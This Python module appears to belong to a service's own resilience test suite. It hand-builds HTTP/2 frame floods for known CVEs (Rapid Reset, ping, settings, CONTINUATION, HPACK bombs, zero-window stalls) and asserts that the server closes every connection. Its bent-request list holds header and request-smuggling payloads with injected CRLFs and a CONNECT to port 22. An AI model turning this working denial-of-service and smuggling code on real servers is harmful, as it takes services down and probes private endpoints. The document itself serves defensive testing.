"""Floods of HTTP/2 frames, by h2 as the client where it allows them and by hand where it does not.

Each runs while an honest client sends events on the plain port: none may be lost.
"""

from __future__ import annotations

import contextlib
import socket
import struct
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Final

import h2.config
import h2.connection
import hpack

from chaos.security.attack import Attack, Told, expect
from chaos.security.stage import AGENT, AT_ONCE, SITE, Stage, read_rest

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED, ACK = 0x1, 0x4, 0x8, 0x1
FRAMES: Final = 20_000
CONNECTIONS: Final = 3


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame as RFC 9113 §4.1 lays it out."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def request_block(method: str = "GET", path: str = "/healthz", *more: tuple[str, str]) -> bytes:
    """An HPACK block of a request that needs no state: each header literally."""
    headers = [
        (":method", method),
        (":path", path),
        (":scheme", "https"),
        (":authority", SITE),
        ("user-agent", AGENT),
    ]
    return bytes(hpack.Encoder().encode([*headers, *more], huffman=False))


def flood(stage: Stage, frames: Callable[[], Iterator[bytes]]) -> tuple[int, int]:
    """Send frames on some connections at once, until the node closes each or all were sent; how many, and closed."""
    with ThreadPoolExecutor(CONNECTIONS + 1) as pool:
        doors = ("tls",) * CONNECTIONS + ("plain",)
        found = list(pool.map(lambda door: _flood_one(stage, door, frames()), doors))
    return sum(sent for sent, _ in found), sum(closed for _, closed in found)


def _flood_one(stage: Stage, door: str, frames: Iterator[bytes]) -> tuple[int, bool]:
    """On one connection: the frames that went out, and whether the node closed it."""
    sent = 0
    with stage.connect(door, "h2") as sock:
        sock.settimeout(20)
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        held: list[bytes] = []
        try:
            for piece in frames:
                held.append(piece)
                sent += 1
                if len(held) == 200:
                    sock.sendall(b"".join(held))
                    held.clear()
                    _drain(sock)
            sock.sendall(b"".join(held))
        except OSError:
            return sent, True
        said = read_rest(sock, 0.5)
        return sent, _has_goaway(said) or _is_closed(sock)


def _drain(sock: socket.socket) -> None:
    """Read what is there, so that the flood is not held up by our own full buffers."""
    sock.settimeout(0.001)
    try:
        while sock.recv(65_536):
            pass
    except OSError:
        pass
    sock.settimeout(20)


def _has_goaway(said: bytes) -> bool:
    """Whether a GOAWAY is among the frames."""
    at = 0
    while at + 9 <= len(said):
        if said[at + 3] == GOAWAY:
            return True
        at += 9 + int.from_bytes(said[at : at + 3], "big")
    return False


def _is_closed(sock: socket.socket) -> bool:
    sock.settimeout(5)
    try:
        return sock.recv(1) == b""
    except TimeoutError:
        return False
    except OSError:
        return True


def _flooding(frames: Callable[[], Iterator[bytes]]) -> Callable[[Stage], Told]:
    """An attack by a flood: every connection must be closed long before all frames were taken."""

    def attack(stage: Stage) -> Told:
        with stage.witness() as witness:
            sent, closed = flood(stage, frames)
        expect(closed == CONNECTIONS + 1, f"{CONNECTIONS + 1 - closed} connections were let go on")
        return Told(sent, f"each of {closed} connections was closed; {witness.told()}")

    return attack


def _rapid_reset() -> Iterator[bytes]:
    block = request_block()
    for number in range(FRAMES):
        stream = 2 * number + 1
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + frame(RST, 0, stream, b"\0\0\0\x08")


def _settings() -> Iterator[bytes]:
    for number in range(FRAMES):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2))


def _pings() -> Iterator[bytes]:
    for number in range(FRAMES):
        yield frame(PING, 0, 0, struct.pack(">Q", number))


def _priorities() -> Iterator[bytes]:
    for number in range(FRAMES):
        yield frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 2 * number + 3, 16))


def _windows() -> Iterator[bytes]:
    for _ in range(FRAMES):
        yield frame(WINDOW, 0, 0, struct.pack(">I", 1))


def _empty_data() -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, request_block("POST", "/api/event"))
    for _ in range(FRAMES):
        yield frame(DATA, 0, 1)


def _continuations() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, request_block())
    for _ in range(FRAMES):
        yield frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")


def _hpack_bombs() -> Iterator[bytes]:
    """A header of 4 KB in the dynamic table, then referred to 4,000 times a request."""
    planted = bytes(hpack.Encoder().encode([("x-bomb", "b" * 3_900)], huffman=False))
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block() + planted)
    for number in range(1, 200):
        yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, request_block() + b"\xbe" * 4_000)


def _unknown() -> Iterator[bytes]:
    for number in range(FRAMES):
        yield frame(0x20 + number % 100, 0xFF, number % 7, b"what")


def never_reads(stage: Stage) -> Told:
    """Hundreds of answers asked for on each connection with a window of 0, and none read (CVE-2019-9517)."""
    opened = 0
    socks = []
    with stage.witness() as witness:
        for _ in range(10):
            sock = stage.connect("tls", "h2")
            zero = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
            sock.sendall(PREFACE + zero)
            for number in range(90):
                sock.sendall(
                    frame(
                        HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, request_block("GET", "/tracker.js")
                    )
                )
                opened += 1
            socks.append(sock)
        stage.until(
            lambda: stage.figures()["tls_connections"] <= 2, "connections that read nothing are still open"
        )
    for sock in socks:
        sock.close()
    return Told(opened, f"every connection was closed by its deadline; {witness.told()}")


def many_streams(stage: Stage) -> Told:
    """A thousand requests at once on one connection: as many as the node allows, the others refused."""
    with stage.connect("tls", "h2") as sock:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        block = request_block("POST", "/api/event")
        data = b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, block) for number in range(1_000))
        with contextlib.suppress(OSError):
            sock.sendall(data)
        said = read_rest(sock, 1.0)
        expect(_has_goaway(said) or _is_closed(sock), "a thousand open streams were taken")
    return Told(1_000, "the connection was closed past the limit of concurrent streams")


def bent_requests(stage: Stage) -> Told:
    """Pseudo-headers missing, twice, or with what HTTP/1.1 would take for a second request."""
    config = h2.config.H2Configuration(
        client_side=True,
        validate_outbound_headers=False,
        normalize_outbound_headers=False,
        header_encoding="utf-8",
    )
    base = [(":method", "GET"), (":path", "/"), (":scheme", "https"), (":authority", SITE)]
    bent = [
        base[1:], base[:1] + base[2:], [*base, (":path", "/metrics")], [*base, (":status", "200")],
        [*base, ("transfer-encoding", "chunked")], [*base, ("connection", "close")], [*base, ("Upper", "x")],
        [*base, ("content-length", "5")], [*base, ("x", "a\r\ncontent-length: 5")], [*base, ("x\r\ny", "z")],
        [*base, ("x", "a\x00b")], [*base, ("host", "other.example")], [(":method", "GET\r\nX: y"), *base[1:]],
        [base[0], (":path", "/ HTTP/1.1\r\nHost: x\r\n\r\nGET /metrics"), *base[2:]],
        [base[0], (":path", ""), *base[2:]],
        [base[0], (":path", "*"), *base[2:]], [base[0], (":path", "http://x/metrics"), *base[2:]],
        [(":method", "CONNECT"), (":authority", "127.0.0.1:22")], [(":method", "GÉT"), *base[1:]],
        [(":method", "CONNECT"), (":protocol", "websocket"), *base[1:]], [base[0], (":path", "/é"), *base[2:]],
        [("x", "y"), *base], [*base, ("te", "chunked")], [*base, ("cookie", "a" * 70_000)],
    ]  # fmt: skip

    def send(headers: list[tuple[str, str]]) -> bytes:
        with stage.connect("tls", "h2") as sock:
            connection = h2.connection.H2Connection(config=config)
            connection.initiate_connection()
            connection.send_headers(1, headers, end_stream=True)
            with contextlib.suppress(OSError):
                sock.sendall(connection.data_to_send())
                return read_rest(sock, 0.3)
            return b""

    with ThreadPoolExecutor(AT_ONCE) as pool:
        for headers, said in zip(bent, pool.map(send, bent), strict=True):
            expect(b"statnive_uptime" not in said, f"{headers!r} reached /metrics")
    return Told(len(bent), "each was refused or answered as one request")


ATTACKS: Final = (
    Attack(
        "http2/rapid-reset", "requests opened and reset at once (CVE-2023-44487)", _flooding(_rapid_reset)
    ),
    Attack(
        "http2/settings", "SETTINGS that each want an acknowledgement (CVE-2019-9515)", _flooding(_settings)
    ),
    Attack("http2/pings", "PINGs that each want an answer (CVE-2019-9512)", _flooding(_pings)),
    Attack("http2/priorities", "trees of priorities (CVE-2019-9513)", _flooding(_priorities)),
    Attack("http2/windows", "windows opened by one byte each", _flooding(_windows)),
    Attack("http2/empty-data", "DATA frames without data (CVE-2019-9518)", _flooding(_empty_data)),
    Attack("http2/continuation", "a head that never ends (VU#421644)", _flooding(_continuations)),
    Attack("http2/hpack-bombs", "headers of megabytes out of a small table", _flooding(_hpack_bombs)),
    Attack("http2/unknown-frames", "frames of kinds that nobody knows", _flooding(_unknown)),
    Attack("http2/never-reads", "answers that nobody reads, with a window of 0 (CVE-2019-9517)", never_reads),
    Attack("http2/many-streams", "a thousand open requests on one connection", many_streams),
    Attack("http2/bent-requests", "pseudo-headers missing, doubled, with line breaks", bent_requests),
)
